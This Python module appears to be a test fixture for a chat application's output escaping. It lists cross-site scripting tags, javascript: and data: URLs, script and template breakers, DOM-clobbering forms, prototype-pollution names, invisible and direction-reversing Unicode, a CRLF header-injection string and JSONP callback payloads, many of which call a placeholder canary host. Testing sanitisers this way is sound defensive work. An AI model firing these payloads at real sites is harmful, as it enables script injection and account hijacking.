"""What people have tried on chats: markup, half markup, addresses, names that mean something.

Each would, if it were ever taken for more than text, set `window.hacked`, open a dialog, or ask
CANARY for something; tests put a server's address in its place that tells whether it was asked.
"""
# SPDX-License-Identifier: MIT

CANARY = "//canary"

#: Whole tags and half ones.
TAGS = r'''
<script>hacked=1</script>
<ScRiPt >hacked=1</sCrIpT >
<script src=//canary/s></script>
<script/x>hacked=1</script
<scr<script>ipt>hacked=1</scr</script>ipt>
</script><script>hacked=1</script>
<!--<script>hacked=1//--></script>
<![CDATA[<script>hacked=1</script>]]>
<?php hacked=1 ?><img src=x onerror=hacked=1>
<img src=x onerror=hacked=1>
<img src=//canary/i>
<IMG """><SCRIPT>hacked=1</SCRIPT>">
<img/src/onerror=alert(1)>
<img srcset="//canary/set 1x" src=x
<image href=//canary/image>
<svg onload=hacked=1>
<svg><script>hacked=1</script></svg>
<svg><animate onbegin=hacked=1 attributeName=x dur=1s>
<svg><a xlink:href=javascript:hacked=1><text y=9>click
<math><mtext></p><style><img src=x onerror=hacked=1>
<iframe src=javascript:parent.hacked=1>
<iframe srcdoc="<script>parent.hacked=1</script>">
<object data=//canary/o></object><embed src=//canary/e>
<video src=x onerror=hacked=1></video>
<audio src onloadstart=hacked=1>
<input autofocus onfocus=hacked=1>
<details open ontoggle=hacked=1>x</details>
<body onload=hacked=1>
<marquee onstart=hacked=1>x</marquee>
<x onpointerrawupdate=hacked=1 style=position:fixed;inset:0>
<p style=animation-name:x onanimationstart=hacked=1>
<style>@import'//canary/c';</style>
<style>*{background:url(//canary/bg)}</style>
<link rel=stylesheet href=//canary/l>
<link rel=prefetch href=//canary/p>
<base href=//canary/>
<meta http-equiv=refresh content=0;url=//canary/m>
<meta http-equiv=Content-Security-Policy content="script-src *">
<template><img src=x onerror=hacked=1></template>
<noscript><p title="</noscript><img src=x onerror=hacked=1>">
<form id=log><input name=textContent></form>
<form id=say><input name=children><input name=append>
<a id=Fireside></a><a id=Fireside name=connect href=x:1>
<img name=getElementById><img name=body>
<form action=//canary/f><button>Log in again</button>
<textarea></textarea><script>hacked=1</script>
</textarea></title></style></article><script>hacked=1</script>
<plaintext><xmp><listing>
<table><td background=//canary/t>
<dialog open onclose=hacked=1>x
<slot name=x><button popovertarget=x>
'''.strip().splitlines()

#: What leaves an attribute, or stays in one and does harm there.
ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)//https://a.example
java&#09;script:alert(1)
&#106;avascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
https://x.example/" onmouseover=hacked=1 x="
https://x.example/' onfocus=hacked=1 autofocus x='
http://a.example/<script>hacked=1</script>
http://a.example/`onerror=hacked=1`
https://user:pass@a.example/?a=1&b=<b>#"><img src=x onerror=hacked=1>
" onerror=hacked=1 x="
' autofocus onfocus=hacked=1 '
" style="background:url(//canary/u)
expression(hacked=1)
""".strip().splitlines()

#: What ends a text in a script, a template or a style sheet.
BREAKERS = r"""
</script>
<!--
-->
]]>
";hacked=1;//
';hacked=1;//
\";hacked=1;//
\u003cimg src=x onerror=hacked=1\u003e
${hacked=1}
`${hacked=1}`
{{constructor.constructor('hacked=1')()}}
<%= 7*7 %>
&lt;script&gt;hacked=1&lt;/script&gt;
&amp;lt;b&amp;gt;
&
&#60;img src=x onerror=hacked=1&#62;
+ADw-script+AD4-hacked=1+ADw-/script+AD4-
%3Cscript%3Ehacked=1%3C/script%3E
\x3cscript\x3ehacked=1\x3c/script\x3e
}*/hacked=1/*
""".strip().splitlines()

#: Names that objects, forms and documents have by themselves.
WORDS = """
__proto__ constructor prototype toString hasOwnProperty valueOf length null undefined NaN
true 0 -1 lobby from log text children innerHTML $& $1 %s %00
[] {} [object]
""".split() + ["[object Object]", "me too"]

#: Letters that change what stands beside them, or are not seen.
LETTERS = [
    "line\u2028separator\u2029paragraph",
    "\u202etxt.exe is read backwards\u202c",
    "\u2066isolated\u2069 \u200fmark",
    "zero\u200bwidth\u200cjoin\u200der",
    "soft\u00adhyphen",
    "\ufeffmark in front",
    "\u00c0\u00af\u00c0\u00ae overlong",
    "\uff1cscript\uff1ehacked=1\uff1c/script\uff1e",
    "\u02bcquote\u2019s\u02ba",
    "\u0130\u0131\u017f\u212a",
    "Z\u0351\u0343\u0357\u030a\u030e\u0350a\u0328\u0321\u0322l\u0334\u0335\u0336g\u0489o",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062",
    "\ufffd\ufffe\uffff",
    "\U0010ffff\U0001d4d0",
    "\u0600\u06dd\u070f",
    "\u3164\u115f blank",
]

#: As long as a name may be, and a word that no line holds.
LONG = ["n" * 64, "\u00df" * 64, "W" * 2000, "<b>" * 300]

#: Several lines: only a text may have them.
LINES = ["one\n<script>hacked=1</script>\nthree", "\tindented\n\n\n   and spaced   \u00b7",
         "&\n<\n>"]

ALL = TAGS + ADDRESSES + BREAKERS + WORDS + LETTERS + LONG + LINES

#: What a script's address might be made to call.
CALLBACKS = TAGS[:12] + BREAKERS + LETTERS + WORDS + r"""
alert
alert(1)
alert(1)//
alert.call
hacked=1
hacked=1;x
x;hacked=1;x
eval
Function
setTimeout
document.write
window.alert
window.hacked
self.close
top.location.assign
opener.document.body.click
opener.x.click
document.forms.0.submit
a[0]
a["b"]
a.b.c.d.e.f
a..b
.a
a.
a b
a%20b
x.__proto__.y
x.constructor.constructor
import
async
location.reload
CWSMIKI0hCD0Up0IZUnnnnnnnnnnnnnnnnnnnUU5nnnnnn3Snn7iiudIbEAt333swW0ssG03
/*
*/alert(1)/*
//
""".strip().splitlines() + ["a\r\nX-Header: y", "a\n\n<html>", "a\x00b", "a" * 129, "", " x"]


def aimed(payload, canary):
    """The payload with a real address in the canary's place."""
    return payload.replace(CANARY, canary.removeprefix("http:"))
